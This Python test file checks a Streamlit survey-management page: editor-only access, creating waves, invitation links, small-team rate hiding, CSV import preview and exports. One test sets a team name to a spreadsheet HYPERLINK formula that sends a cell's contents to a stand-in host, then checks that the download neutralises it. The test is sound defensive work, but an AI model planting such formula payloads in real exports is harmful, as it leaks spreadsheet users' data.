"""The Surveys page with AppTest: editors only; create a wave; invite and download links; response rates hide
small teams; roster upload; import preview with mapping, then import; export downloads."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy import func, select

from ldcore.db import read_session, unit_of_work
from ldcore.models import Invitation, Response, SurveyWave, Team
from tests.pages.helpers import make_account, page_test, texts
from tests.support.surveys import build, make_wave

PAGE = "pages/surveys.py"


@pytest.fixture
def editor_page(monkeypatch, db_url, engine):
    build(engine, {"alpha": 6, "beta": 2})
    account = make_account(engine, role="editor")
    return lambda: page_test(monkeypatch, db_url, PAGE, account_id=account, engine=engine).run()


def count(engine, column) -> int:
    with read_session(engine) as session:
        return session.scalar(select(func.count(column)))


def test_a_viewer_cannot_open_the_surveys_page(monkeypatch, db_url, engine):
    build(engine, {"alpha": 1})
    viewer = make_account(engine, role="viewer")
    at = page_test(monkeypatch, db_url, PAGE, account_id=viewer, engine=engine).run()
    assert "needs the editor role" in at.error[0].value
    assert not at.tabs


def test_an_editor_creates_a_wave_and_a_bad_one_is_refused_with_the_field(editor_page, engine):
    at = editor_page()
    assert not at.exception
    assert "academy-followup-30" in texts(at)
    at.text_input(key="wave_key").input("fy-base")
    at.button(key="FormSubmitter:wave_create-Create wave").click().run()
    assert not at.exception
    assert count(engine, SurveyWave.id) == 1
    at.text_input(key="wave_key").input("BAD KEY")
    at.button(key="FormSubmitter:wave_create-Create wave").click().run()
    assert any("key" in e.value for e in at.error)
    assert count(engine, SurveyWave.id) == 1


def test_inviting_offers_the_links_and_rates_hide_small_teams(editor_page, engine):
    make_wave(engine)
    at = editor_page()
    at.button(key="invite_button").click().run()
    assert not at.exception
    assert count(engine, Invitation.id) == 8
    assert "Download 8 invitations links (CSV)" in [b.label for b in at.get("download_button")]
    table = at.dataframe[1].value
    # beta (2 invited) is merged, and alpha with it: on its own "Other teams" would be beta
    assert (list(table["team"]), list(table["answered"])) == (["Other teams"], ["< 5"])
    assert "Not answered yet (8)" in texts(at)


def test_an_anonymous_wave_shows_nobody_by_name_as_answered_or_not(editor_page, engine):
    make_wave(engine, anonymity="anonymous")
    at = editor_page()
    at.button(key="invite_button").click().run()
    assert not at.exception
    # the links, the response rates and who was mailed what, with nothing about who answered
    assert len(at.dataframe) == 3
    assert list(at.dataframe[2].value.columns) == ["name", "email", "team", "invitation", "reminders", "problem"]
    assert "Not answered yet" in texts(at) and "Not answered yet (8)" not in texts(at)
    assert any("does not show who has answered" in c.value for c in at.caption)


def test_the_links_download_neutralises_team_names_a_spreadsheet_would_run(editor_page, engine, monkeypatch):
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    with unit_of_work(engine) as session:
        session.scalars(select(Team).where(Team.key == "alpha")).one().name = '=HYPERLINK("http://x.test?"&C2,"Open")'
    make_wave(engine)
    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        files[filename] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    at = editor_page()
    at.button(key="invite_button").click().run()
    rows = list(csv.reader(io.StringIO(files["base-invitations.csv"].decode("utf-8-sig"))))
    assert rows[0] == ["email", "team", "link"]
    assert sorted({r[1] for r in rows[1:]}) == ['\'=HYPERLINK("http://x.test?"&C2,"Open")', "Beta Service"]


def upload(monkeypatch, data: bytes) -> None:
    """AppTest cannot upload files; the page's preview and import run on what the uploader returns."""
    import streamlit as st

    class Upload:
        name = "answers.csv"

        def getvalue(self):
            return data

    real = st.file_uploader
    monkeypatch.setattr(st, "file_uploader", lambda label, **kw: Upload() if kw.get("key") == "import_file"
                        else real(label, **kw))  # fmt: skip


def test_an_import_is_previewed_with_its_mapping_then_imported(editor_page, engine, monkeypatch):
    make_wave(engine)
    upload(monkeypatch, b"response_id,team,proficiency[neg],mood\nr1,alpha,3,happy\nr2,beta,,\n")
    at = editor_page()
    assert not at.exception
    assert "with 2 rows: 1 new responses, 0 already imported, 1 rows without any answer" in texts(at)
    assert any("mood" in w.value for w in at.warning)
    at.button(key="import_go").click().run()
    assert not at.exception
    assert count(engine, Response.id) == 1


def test_the_export_is_built_only_when_someone_downloads_it(editor_page, engine, monkeypatch):
    from ldcore.services import imports

    built = []
    monkeypatch.setattr(imports, "export_responses", lambda *a, **k: built.append(k) or b"")
    make_wave(engine)
    at = editor_page()
    assert not at.exception
    labels = [b.label for b in at.get("download_button")]
    assert "Download CSV" in labels and "Download XLSX" in labels
    at.run()
    assert built == []


def test_a_new_response_shows_in_the_rates_on_the_next_run(editor_page, engine):
    from ldcore.db import unit_of_work
    from ldcore.services import responses
    from tests.support.surveys import invite, token_of

    make_wave(engine)
    links = [link for link in invite(engine, "base") if link.team == "Alpha Sales"]
    at = editor_page()
    assert at.dataframe[1].value["answered"].tolist() == ["< 5"]  # the small teams counted together
    for link in links[:5]:
        with unit_of_work(engine) as session:
            responses.submit_response(
                session, token=token_of(link), answers={"proficiency": {"neg": 3, "coach": 4, "excel": 2}}
            )
    at.run()
    assert at.dataframe[1].value["answered"].tolist() == ["5"]
    assert "Not answered yet (3)" in texts(at)


def test_the_preview_asks_for_the_date_order_and_lists_unknown_values_before_anything_is_written(
    editor_page, engine, monkeypatch
):
    make_wave(engine)
    upload(monkeypatch, b"Timestamp,team,proficiency[neg]\n3/4/2025 10:00,alpha,3\n5/6/2025 10:00,alpha,-99\n"
                        b"5/7/2025 10:00,alpha,-99\n")  # fmt: skip
    at = editor_page()
    assert not at.exception
    assert any("could be day-first or month-first" in w.value for w in at.warning)
    unknown = at.dataframe[-1].value
    assert unknown.to_dict("records") == [{"column": "proficiency[neg]", "value": "-99", "rows": 2}]
    at.radio(key="import_date_order").set_value("Day first (03/04 = 3 April)").run()
    assert "Times from column 'Timestamp' (day first)." in [c.value for c in at.caption]
    assert at.button(key="import_go").disabled  # the -99 values would refuse the import
    assert count(engine, Response.id) == 0
    at.radio(key="import_unknown").set_value("Store as no answer").run()
    at.button(key="import_go").click().run()
    assert not at.exception and not at.error
    with read_session(engine) as session:
        assert session.scalars(select(Response.submitted_at)).all() == [dt.datetime(2025, 4, 3, 10, 0)]


def test_a_reminder_asks_for_confirmation_with_the_count_and_keeps_the_links_sent(editor_page, engine):
    make_wave(engine)
    at = editor_page()
    at.button(key="invite_button").click().run()
    with unit_of_work(engine) as session:  # the invitation went out three days ago
        for invitation in session.scalars(select(Invitation)):
            invitation.created_at -= dt.timedelta(days=3)
    with read_session(engine) as session:
        before = {i.token_hash for i in session.scalars(select(Invitation))}
    at.button(key="remind_button").click().run()
    assert "A reminder goes to 8 people with the link they already have" in texts(at)
    assert count(engine, Invitation.last_reminded_at) == 0  # nothing sent before the confirmation
    at.button(key="remind_confirm_button").click().run()
    assert not at.exception
    assert "Reminders prepared for 8 people; the links sent before still work." in texts(at)
    with read_session(engine) as session:
        assert {i.token_hash for i in session.scalars(select(Invitation))} == before
    at.button(key="remind_button").click().run()
    assert "Too soon for a reminder" in texts(at)


def test_creating_links_for_an_audience_with_nobody_on_the_roster_says_so(monkeypatch, db_url, engine):
    build(engine, {"outside": 3})
    make_wave(engine)
    account = make_account(engine, role="editor")
    at = page_test(monkeypatch, db_url, PAGE, account_id=account, engine=engine).run()
    at.button(key="invite_button").click().run()
    assert not at.exception
    assert "Nobody on the roster is in this wave's audience" in texts(at)
    assert "Personal links created" not in texts(at) and not at.success


def test_the_page_shows_which_base_the_links_use(editor_page, engine, monkeypatch):
    make_wave(engine)
    monkeypatch.setenv("LDALIGN_BASE_URL", "https://hr.example/ld")
    at = editor_page()
    assert "The links below start with this address, the configured base URL:" in texts(at)
    assert "https://hr.example/ld" in [c.value for c in at.code]
    at.button(key="links_again_button").click().run()
    at.button(key="invite_button").click().run()
    assert not at.exception
    assert "8 personal links created for everyone not invited before." in texts(at)


def test_the_import_preview_says_which_encoding_and_delimiter_the_file_was_read_with(editor_page, engine, monkeypatch):
    make_wave(engine)
    data = "response_id;team;proficiency[neg];comments\nr1;alpha;3;très bien\n".encode("cp1252")
    upload(monkeypatch, data)
    at = editor_page()
    assert not at.exception
    assert "Read as Windows-1252, semicolon-separated." in [c.value for c in at.caption]


def test_a_bad_upload_is_refused_in_its_tab_and_the_export_tab_is_still_drawn(editor_page, engine, monkeypatch):
    make_wave(engine)
    upload(monkeypatch, b"\x00\x01 not a table at all")
    at = editor_page()
    assert not at.exception
    assert at.error  # the import tab says why
    labels = [b.label for b in at.get("download_button")]
    assert "Download CSV" in labels and "Download XLSX" in labels


def test_the_waves_table_shows_names_not_keys(editor_page, engine):
    make_wave(engine, key="base", title="Spring baseline", initiative="academy", anonymity="anonymous")
    at = editor_page()
    row = at.dataframe[0].value.iloc[0].to_dict()
    assert row["wave"] == "Spring baseline"
    assert row["survey"] == "Where are you today? Capability self-assessment"
    assert (row["initiative"], row["baseline"], row["kind"], row["anonymity"]) == (
        "Negotiation Academy",
        "—",
        "Baseline",
        "Anonymous",
    )
    assert [o for o in at.selectbox(key="invite_wave").options] == ["Spring baseline"]


def test_creating_a_wave_flashes_once_and_the_roster_offers_a_template(editor_page, engine):
    at = editor_page()
    at.text_input(key="wave_key").input("fy-base")
    at.text_input(key="wave_title").input("FY baseline")
    at.button(key="FormSubmitter:wave_create-Create wave").click().run()
    assert [s.value for s in at.success] == ["Created wave FY baseline."]
    assert at.dataframe[0].value["wave"].tolist() == ["FY baseline"]
    at.run()
    assert not at.success
    assert "Download a roster template (CSV)" in [b.label for b in at.get("download_button")]
